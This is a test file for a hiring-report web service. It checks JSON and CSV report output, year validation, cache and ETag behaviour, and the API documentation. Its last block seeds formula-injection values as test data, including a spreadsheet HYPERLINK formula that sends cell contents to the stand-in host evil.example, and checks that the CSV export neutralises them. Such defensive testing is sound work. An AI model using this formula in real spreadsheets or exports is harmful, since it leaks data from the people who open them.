import request from 'supertest';
import { createDialect } from '../../src/database/dialect';
import { DataChangeService } from '../../src/database/data-change.service';
import { globantData, seed } from '../support/seed';
import { startTestApp, type TestApp } from '../support/test-app';
import { testEngines } from '../support/test-database';

// Express's own ETag function, the one `app.set('etag', 'weak')` uses.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const expressEtag = require('etag') as (entity: Buffer, options: { weak: boolean }) => string;

/** Parses the service's CSV answers (no field of the sample data holds a quote or a comma). */
function csvLines(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  return text
    .slice(0, -2)
    .split('\r\n')
    .map((line) => line.split(','));
}

describe.each(testEngines())('reports over HTTP on the sample data on %s', (engine) => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp(engine);
    await seed(t.dataSource, globantData());
  });
  afterAll(async () => {
    await t.close();
  });

  it('should answer 933 department and job rows for 2021 when no year is given', async () => {
    const res = await request(t.server).get('/reports/hires-by-quarter').expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.body).toHaveLength(933);
    const [first] = res.body;
    expect(Object.keys(first)).toEqual(['department', 'job', 'Q1', 'Q2', 'Q3', 'Q4']);
    const total = res.body.reduce((sum: number, r: Record<string, number>) => sum + r.Q1 + r.Q2 + r.Q3 + r.Q4, 0);
    const [{ n }] = await t.dataSource.query(
      "SELECT COUNT(*) AS n FROM hired_employees WHERE datetime >= '2021-01-01 00:00:00' AND datetime < '2022-01-01 00:00:00'",
    );
    expect(total).toBe(Number(n));
  });

  it('should order the rows by department then job, case-insensitively', async () => {
    const res = await request(t.server).get('/reports/hires-by-quarter?year=2021').expect(200);
    const keys = res.body.map((r: { department: string; job: string }) => [
      r.department.toLowerCase(),
      r.job.toLowerCase(),
    ]);
    const sorted = [...keys].sort((a, b) => (a[0] === b[0] ? (a[1] < b[1] ? -1 : 1) : a[0] < b[0] ? -1 : 1));
    expect(keys).toEqual(sorted);
  });

  it('should answer 7 departments above the mean for 2021 with Support first at 216', async () => {
    const res = await request(t.server).get('/reports/departments-above-mean?year=2021').expect(200);
    expect(res.body).toHaveLength(7);
    expect(res.body[0]).toEqual({ id: expect.any(Number), department: 'Support', hired: 216 });
    const hired = res.body.map((r: { hired: number }) => r.hired);
    expect(hired).toEqual([...hired].sort((a, b) => b - a));
  });

  it('should answer empty lists when nobody was hired in the year', async () => {
    await request(t.server).get('/reports/hires-by-quarter?year=1999').expect(200, []);
    await request(t.server).get('/reports/departments-above-mean?year=1999').expect(200, []);
  });

  it('should answer CSV with a header row and an attachment name when format=csv', async () => {
    const json = await request(t.server).get('/reports/hires-by-quarter?year=2021').expect(200);
    const res = await request(t.server).get('/reports/hires-by-quarter?year=2021&format=csv').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="hires-by-quarter-2021.csv"');
    const lines = csvLines(res.text);
    expect(lines[0]).toEqual(['department', 'job', 'Q1', 'Q2', 'Q3', 'Q4']);
    expect(lines).toHaveLength(json.body.length + 1);
    const first = json.body[0];
    expect(lines[1]).toEqual([first.department, first.job, ...[first.Q1, first.Q2, first.Q3, first.Q4].map(String)]);
  });

  it('should answer CSV when the Accept header asks for text/csv', async () => {
    const res = await request(t.server)
      .get('/reports/departments-above-mean?year=2021')
      .set('Accept', 'text/csv')
      .expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="departments-above-mean-2021.csv"');
    const lines = csvLines(res.text);
    expect(lines[0]).toEqual(['id', 'department', 'hired']);
    expect(lines).toHaveLength(8);
    expect(lines[1].slice(1)).toEqual(['Support', '216']);
  });

  it('should answer JSON when Accept allows anything', async () => {
    const res = await request(t.server).get('/reports/departments-above-mean').set('Accept', '*/*').expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers.vary).toMatch(/Accept/);
  });

  it.each(['21', 'abcd', '20211', '2021.0', ' 2021', '0999'])('should answer 400 when year is %p', async (year) => {
    const res = await request(t.server).get('/reports/hires-by-quarter').query({ year }).expect(400);
    expect(res.body).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    expect(res.body.message).toContain('four-digit year');
  });

  it('should answer 400 when format is neither json nor csv', async () => {
    const res = await request(t.server).get('/reports/departments-above-mean?format=xml').expect(400);
    expect(res.body.message).toContain('format must be json or csv');
  });

  it('should answer from the cache, with the same ETag, until the data change service reports a write', async () => {
    const path = '/reports/departments-above-mean?year=2021';
    const before = await request(t.server).get(path).expect(200);
    const support = before.body[0];
    const [{ job_id: jobId }] = await t.dataSource.query('SELECT MIN(id) AS job_id FROM jobs');
    await t.dataSource.query(
      createDialect(t.dataSource).sql(
        "INSERT INTO hired_employees (id, name, datetime, department_id, job_id) VALUES (900001, 'Cache Probe', '2021-05-01 10:00:00.000', ?, ?)",
      ),
      [support.id, jobId],
    );
    const cached = await request(t.server).get(path).expect(200);
    expect(cached.body).toEqual(before.body);
    // The same bytes, the same tag, as Express makes it: a client holding them is answered 304.
    expect(cached.headers.etag).toBe(expressEtag(Buffer.from(cached.text), { weak: true }));
    expect(cached.headers.etag).toBe(before.headers.etag);
    await request(t.server).get(path).set('If-None-Match', String(before.headers.etag)).expect(304);

    t.app.get(DataChangeService).changed('hired_employees');
    const fresh = await request(t.server).get(path).expect(200);
    expect(fresh.body[0]).toEqual({ ...support, hired: support.hired + 1 });
    expect(fresh.headers.etag).toBe(expressEtag(Buffer.from(fresh.text), { weak: true }));
    expect(fresh.headers.etag).not.toBe(before.headers.etag);
    await request(t.server).get(path).set('If-None-Match', String(before.headers.etag)).expect(200);

    await t.dataSource.query('DELETE FROM hired_employees WHERE id = 900001');
    t.app.get(DataChangeService).changed('hired_employees');
    await request(t.server).get(path).expect(200, before.body);
  });

  it('should list the years that have hires, ascending, when the years are asked for', async () => {
    const years = [
      ...new Set(globantData().employees.map((e) => new Date(e.datetime.replace(' ', 'T') + 'Z').getUTCFullYear())),
    ];
    const res = await request(t.server).get('/reports/years').expect(200);
    expect(res.body).toEqual(years.sort((a, b) => a - b));
    expect(res.body).toContain(2021);
  });

  it('should add a year to the list when a hire in a new year is written', async () => {
    const [{ department_id: departmentId, job_id: jobId }] = await t.dataSource.query(
      'SELECT MIN(department_id) AS department_id, MIN(job_id) AS job_id FROM hired_employees',
    );
    await t.dataSource.query(
      createDialect(t.dataSource).sql(
        "INSERT INTO hired_employees (id, name, datetime, department_id, job_id) VALUES (900002, 'Year Probe', '1999-12-31 23:59:59.999', ?, ?)",
      ),
      [departmentId, jobId],
    );
    t.app.get(DataChangeService).changed('hired_employees');
    const res = await request(t.server).get('/reports/years').expect(200);
    expect(res.body[0]).toBe(1999);
    await t.dataSource.query('DELETE FROM hired_employees WHERE id = 900002');
    t.app.get(DataChangeService).changed('hired_employees');
    await expect(request(t.server).get('/reports/years')).resolves.toHaveProperty('body.0', 2021);
  });

  it('should document the years as a list of integers in the OpenAPI document', async () => {
    const res = await request(t.server).get('/docs-json').expect(200);
    const answer = res.body.paths['/reports/years'].get.responses['200'].content['application/json'];
    expect(answer.schema).toEqual({ type: 'array', items: { type: 'integer' }, example: [2021, 2022] });
    expect(res.body.paths['/reports/years'].get.responses['400']).toBeUndefined();
  });

  it('should document both reports with JSON and CSV answers in the OpenAPI document', async () => {
    const res = await request(t.server).get('/docs-json').expect(200);
    for (const path of ['/reports/hires-by-quarter', '/reports/departments-above-mean']) {
      const content = res.body.paths[path].get.responses['200'].content;
      expect(Object.keys(content)).toEqual(expect.arrayContaining(['application/json', 'text/csv']));
    }
    expect(res.body.components.schemas.HiresByQuarterRowResponseDto.required).toEqual(
      expect.arrayContaining(['department', 'job', 'Q1', 'Q2', 'Q3', 'Q4']),
    );
  });
});

describe.each(testEngines())('report CSV cells that a spreadsheet would run on %s', (engine) => {
  let t: TestApp;
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  beforeAll(async () => {
    t = await startTestApp(engine);
    const at = '2021-02-01 10:00:00.000';
    await seed(t.dataSource, {
      departments: [
        { id: 1, department: formula },
        { id: 2, department: '+1+1' },
      ],
      jobs: [
        { id: 1, job: '@SUM(1+1)' },
        { id: 2, job: '-2+3' },
      ],
      employees: [
        { id: 1, name: 'A', datetime: at, department_id: 1, job_id: 1 },
        { id: 2, name: 'B', datetime: at, department_id: 1, job_id: 2 },
        { id: 3, name: 'C', datetime: at, department_id: 1, job_id: 2 },
        { id: 4, name: 'D', datetime: at, department_id: 2, job_id: 1 },
      ],
    });
  });
  afterAll(async () => {
    await t.close();
  });

  it('should prefix formula-like cells with a quote in the CSV but not in the JSON when names begin with = + - @', async () => {
    const csv = await request(t.server).get('/reports/hires-by-quarter?year=2021&format=csv').expect(200);
    const quoted = `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`;
    expect(csv.text).toBe(
      'department,job,Q1,Q2,Q3,Q4\r\n' +
        `'+1+1,'@SUM(1+1),1,0,0,0\r\n` +
        `${quoted},'-2+3,2,0,0,0\r\n` +
        `${quoted},'@SUM(1+1),1,0,0,0\r\n`,
    );
    const above = await request(t.server)
      .get('/reports/departments-above-mean?year=2021')
      .set('Accept', 'text/csv')
      .expect(200);
    expect(above.text).toBe(`id,department,hired\r\n1,${quoted},3\r\n`);
    const json = await request(t.server).get('/reports/departments-above-mean?year=2021').expect(200);
    expect(json.body).toEqual([{ id: 1, department: formula, hired: 3 }]);
  });
});
